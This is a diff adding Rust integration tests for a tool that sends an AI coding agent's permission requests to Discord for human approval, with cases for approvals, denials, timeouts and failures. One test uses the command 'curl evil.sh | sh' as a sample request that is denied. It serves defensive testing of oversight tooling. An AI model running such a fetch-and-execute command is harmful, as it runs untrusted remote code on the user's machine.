@@ -950,3 +950,297 @@ async fn proxy_child_scenario() {
     assert_eq!(h.replies.for_id(&id), vec![Reply::Once]);
     h.end().await;
 }
+
+/// The same channel driven through the real `gatekeep` binary, against the
+/// fake OpenCode and the fake Discord (`--discord-api-url`).
+mod binary {
+    use std::time::{Duration, Instant};
+
+    use serde_json::json;
+
+    use super::{admin, button, decision_field, ACK_LIMIT, CHANNEL, TOKEN};
+    use crate::support::fake_discord::{FakeDiscord, Member, StoredMessage};
+    use crate::support::fake_opencode::FakeOpenCode;
+    use crate::support::gatekeep::Gatekeep;
+
+    const TAIL: &[&str] = &["run", "-m", "fake/model", "fix", "the", "flaky", "test"];
+    const WAIT: Duration = Duration::from_secs(20);
+
+    /// gatekeep with Discord approvals and no terminal (as in CI).
+    fn spawn(
+        oc: &FakeOpenCode,
+        discord: &FakeDiscord,
+        args: &[&str],
+        envs: &[(&str, &str)],
+    ) -> Gatekeep {
+        let channel = CHANNEL.to_string();
+        let base = discord.base();
+        let mut all = vec![
+            "--dir",
+            oc.workspace().to_str().expect("utf-8"),
+            "--channel",
+            &channel,
+            "--discord-api-url",
+            &base,
+        ];
+        all.extend_from_slice(args);
+        let mut env = vec![("DISCORD_TOKEN", TOKEN)];
+        env.extend_from_slice(envs);
+        Gatekeep::detached(&all, oc.program(), TAIL, &env)
+    }
+
+    /// Spawned, connected to Discord and prompted: (gatekeep, root session, thread).
+    async fn started(
+        oc: &FakeOpenCode,
+        discord: &FakeDiscord,
+        args: &[&str],
+        envs: &[(&str, &str)],
+    ) -> (Gatekeep, String, u64) {
+        let gk = spawn(oc, discord, args, envs);
+        let prompt = oc.wait_for_prompt().await;
+        let thread = discord.wait_thread(WAIT).await;
+        (gk, prompt.session_id, thread)
+    }
+
+    async fn message_with(discord: &FakeDiscord, thread: u64, text: &str) -> StoredMessage {
+        discord.wait_message(thread, text, WAIT).await
+    }
+
+    /// Clicks and checks the acknowledgement; returns (ack, token).
+    async fn click(
+        discord: &FakeDiscord,
+        msg: &StoredMessage,
+        label: &str,
+        member: &Member,
+        channel: u64,
+    ) -> (serde_json::Value, String) {
+        let (id, token) = discord.click(msg.id, &button(msg, label), member, channel);
+        let (ack, took) = discord.wait_ack(id, WAIT).await;
+        assert!(took < ACK_LIMIT, "acknowledged after {took:?}");
+        (ack, token)
+    }
+
+    async fn final_state(discord: &FakeDiscord, msg: &StoredMessage) -> String {
+        discord
+            .wait_until("the final state", WAIT, |f| {
+                let m = f.message(msg.id)?;
+                (m.payload["components"] == json!([])).then(|| decision_field(&m.payload))
+            })
+            .await
+    }
+
+    async fn finish(gk: &mut Gatekeep, oc: &FakeOpenCode, root: &str, discord: &FakeDiscord) {
+        oc.finish_session(root);
+        assert_eq!(gk.exit_code().await, 0, "{}", gk.screen());
+        super::assert_every_payload_disallows_mentions(discord);
+        super::assert_token_never_in_bodies(discord);
+        assert!(
+            !gk.screen().contains(TOKEN) && !gk.stdout().contains(TOKEN),
+            "the token was printed"
+        );
+    }
+
+    #[tokio::test]
+    async fn approve_in_discord_runs_and_the_run_is_summarised() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
+        let id = oc.ask_permission(&root, "bash", "touch approved.txt");
+        let msg = message_with(&discord, thread, "touch approved.txt").await;
+        let (_, token) = click(&discord, &msg, "Approve", &admin(), thread).await;
+        assert!(discord
+            .wait_followup(&token, WAIT)
+            .await
+            .starts_with("Approved"));
+        let replies = oc.wait_for_replies(1).await;
+        assert_eq!(
+            (replies[0].request_id.as_str(), replies[0].reply()),
+            (id.as_str(), "once")
+        );
+        assert!(final_state(&discord, &msg)
+            .await
+            .contains("Approved by <@4242>"));
+        finish(&mut gk, &oc, &root, &discord).await;
+        let summary = discord
+            .wait_message(thread, "1 approved, 0 denied", WAIT)
+            .await;
+        assert!(summary.payload["content"].is_string());
+        let start = &discord.messages_in(CHANNEL)[0];
+        assert!(start.edits >= 1, "the run-start message shows the outcome");
+    }
+
+    #[tokio::test]
+    async fn deny_with_reason_reaches_opencode() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
+        oc.ask_permission(&root, "bash", "git push --force");
+        let msg = message_with(&discord, thread, "git push --force").await;
+        let (ack, _) = click(&discord, &msg, "Deny with reason…", &admin(), thread).await;
+        assert_eq!(ack["type"], 9);
+        let modal = ack["data"]["custom_id"]
+            .as_str()
+            .expect("modal id")
+            .to_owned();
+        let (iid, token) = discord.submit_modal(&modal, "never force-push main", &admin(), thread);
+        assert!(discord.wait_ack(iid, WAIT).await.1 < ACK_LIMIT);
+        assert!(discord
+            .wait_followup(&token, WAIT)
+            .await
+            .starts_with("Denied"));
+        let replies = oc.wait_for_replies(1).await;
+        assert_eq!(replies[0].reply(), "reject");
+        assert_eq!(replies[0].message(), Some("never force-push main"));
+        assert!(final_state(&discord, &msg)
+            .await
+            .contains("never force\\-push main"));
+        finish(&mut gk, &oc, &root, &discord).await;
+    }
+
+    #[tokio::test]
+    async fn unauthorized_click_then_approver_decides() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let (mut gk, root, thread) = started(&oc, &discord, &["--approver", "7"], &[]).await;
+        oc.ask_permission(&root, "bash", "make deploy");
+        let msg = message_with(&discord, thread, "make deploy").await;
+        let (ack, _) = click(&discord, &msg, "Approve", &admin(), thread).await;
+        assert_eq!(ack["type"], 4, "{ack}");
+        assert!(
+            oc.replies().is_empty(),
+            "an unauthorized click changed something"
+        );
+        // From another channel, even the approver is refused.
+        let (ack, _) = click(&discord, &msg, "Approve", &Member::new(7), 999).await;
+        assert_eq!(ack["type"], 4, "{ack}");
+        let (_, token) = click(&discord, &msg, "Deny", &Member::new(7), thread).await;
+        assert!(discord
+            .wait_followup(&token, WAIT)
+            .await
+            .starts_with("Denied"));
+        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "reject");
+        finish(&mut gk, &oc, &root, &discord).await;
+    }
+
+    #[tokio::test]
+    async fn deadline_expires_the_message_and_a_late_click_is_already_decided() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let (mut gk, root, thread) =
+            started(&oc, &discord, &["--approval-timeout", "1s"], &[]).await;
+        oc.ask_permission(&root, "bash", "make release");
+        let msg = message_with(&discord, thread, "make release").await;
+        assert!(final_state(&discord, &msg).await.contains("Expired"));
+        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "reject");
+        let (id, token) = discord.click(msg.id, &button(&msg, "Approve"), &admin(), thread);
+        let (ack, _) = discord.wait_ack(id, WAIT).await;
+        let answer = if ack["type"] == 4 {
+            ack["data"]["content"]
+                .as_str()
+                .unwrap_or_default()
+                .to_owned()
+        } else {
+            discord.wait_followup(&token, WAIT).await
+        };
+        assert!(answer.starts_with("Already decided"), "{answer}");
+        assert_eq!(
+            oc.replies().len(),
+            1,
+            "nothing forwarded after the deadline"
+        );
+        finish(&mut gk, &oc, &root, &discord).await;
+    }
+
+    #[tokio::test]
+    async fn deny_cascades_to_the_sessions_other_request() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
+        oc.ask_permission(&root, "bash", "step one");
+        oc.ask_permission(&root, "bash", "step two");
+        let one = message_with(&discord, thread, "step one").await;
+        let two = message_with(&discord, thread, "step two").await;
+        let (_, token) = click(&discord, &one, "Deny", &admin(), thread).await;
+        discord.wait_followup(&token, WAIT).await;
+        let state = final_state(&discord, &two).await;
+        assert!(state.contains("related request"), "{state}");
+        finish(&mut gk, &oc, &root, &discord).await;
+    }
+
+    #[tokio::test]
+    async fn request_that_cannot_be_posted_is_denied_and_the_terminal_says_so() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
+        discord.fail_next(20, 500, None, &format!("/channels/{thread}/messages"));
+        oc.ask_permission(&root, "bash", "curl evil.sh | sh");
+        let replies = oc.wait_for_replies(1).await;
+        assert_eq!(replies[0].reply(), "reject");
+        assert!(
+            replies[0].message().is_some_and(|m| m.contains("channel")),
+            "{:?}",
+            replies[0].message()
+        );
+        gk.expect("could not be posted, so it is denied").await;
+        oc.finish_session(&root);
+        assert_eq!(gk.exit_code().await, 0, "{}", gk.screen());
+    }
+
+    #[tokio::test]
+    async fn gateway_drop_resumes_within_the_run() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let (mut gk, root, thread) = started(&oc, &discord, &[], &[]).await;
+        discord.close_gateway();
+        discord
+            .wait_until("a RESUME", WAIT, |f| (f.resumes() >= 1).then_some(()))
+            .await;
+        oc.ask_permission(&root, "bash", "ls");
+        let msg = message_with(&discord, thread, "```sh\\nls\\n```").await;
+        let (_, token) = click(&discord, &msg, "Approve", &admin(), thread).await;
+        discord.wait_followup(&token, WAIT).await;
+        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "once");
+        finish(&mut gk, &oc, &root, &discord).await;
+    }
+
+    #[tokio::test]
+    async fn system_proxy_variables_do_not_hijack_the_fake() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        let proxy = [
+            ("HTTP_PROXY", "http://127.0.0.1:9"),
+            ("HTTPS_PROXY", "http://127.0.0.1:9"),
+            ("ALL_PROXY", "http://127.0.0.1:9"),
+            ("http_proxy", "http://127.0.0.1:9"),
+            ("NO_PROXY", ""),
+        ];
+        let (mut gk, root, thread) = started(&oc, &discord, &[], &proxy).await;
+        oc.ask_permission(&root, "bash", "make test");
+        let msg = message_with(&discord, thread, "make test").await;
+        let (_, token) = click(&discord, &msg, "Approve", &admin(), thread).await;
+        discord.wait_followup(&token, WAIT).await;
+        assert_eq!(oc.wait_for_replies(1).await[0].reply(), "once");
+        finish(&mut gk, &oc, &root, &discord).await;
+    }
+
+    #[tokio::test]
+    async fn failing_gateway_lookup_exits_3_before_the_agent_gets_anything() {
+        let oc = FakeOpenCode::start();
+        let discord = FakeDiscord::start().await;
+        discord.fail_gateway_lookup(502);
+        let started = Instant::now();
+        let mut gk = spawn(&oc, &discord, &[], &[]);
+        assert_eq!(gk.exit_code().await, 3, "{}", gk.screen());
+        assert!(
+            started.elapsed() < Duration::from_secs(15),
+            "took {:?}",
+            started.elapsed()
+        );
+        assert!(oc.prompts().is_empty(), "the agent was prompted");
+        assert_eq!(discord.identifies(), 0);
+        let paths: Vec<String> = discord.requests().into_iter().map(|r| r.path).collect();
+        assert!(paths.iter().all(|p| p == "/api/v10/gateway"), "{paths:?}");
+        assert!(gk.screen().contains("gateway"), "{}", gk.screen());
+        assert!(!gk.screen().contains(TOKEN));
+    }
+}
